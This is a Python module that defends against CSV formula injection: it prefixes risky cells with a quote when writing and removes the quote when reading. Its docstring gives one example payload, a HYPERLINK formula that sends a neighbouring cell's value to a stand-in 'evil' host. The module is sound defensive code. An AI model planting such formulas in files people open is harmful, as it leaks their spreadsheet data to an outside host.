"""Spreadsheet formulas in CSV cells: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return is run as a formula by the spreadsheet that opens the file (a title
``=HYPERLINK("http://evil/?x="&A1,"click")`` sends a neighbour cell away). CSV that tagger
writes for people (``tagger predict``'s tags, ``tagger labels -o``) guards such a cell with
a leading ``'`` (as OWASP advises), and every CSV file tagger reads is read without it: a
cell comes back as it was. A number (``-0.5``) runs nothing and is written as it is.

The one rule both ways: a cell of quotes then one of those characters gains a quote when
written (so ``'=x`` is written ``''=x``) and loses one when read, so that reading what was
written gives back the cell, whatever it held.
"""

from __future__ import annotations

import re

_RUN = re.compile(r"'*[=+\-@\t\r]")  # (at a cell's start: quotes, then what starts a formula)
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?\Z")
STARTS = frozenset("=+-@\t\r'")  # a cell starting otherwise is never guarded nor read back


def guarded(cell):
    """The cell as written to CSV for people: a text a spreadsheet would run, behind a quote."""
    if isinstance(cell, str) and cell[:1] in STARTS and _RUN.match(cell) and not _NUMBER.match(cell):
        return "'" + cell
    return cell


def guarded_column(cells: list) -> list:
    """A column of cells, each :func:`guarded` (the column itself when none needs it: most)."""
    if not any(isinstance(cell, str) and cell[:1] in STARTS for cell in cells):
        return cells
    return [guarded(cell) for cell in cells]


def unguarded(cell: str) -> str:
    """A CSV cell as it was before :func:`guarded` (the cell itself unless it starts with a
    quote before what starts a formula)."""
    return cell[1:] if cell[:1] == "'" and _RUN.match(cell) else cell
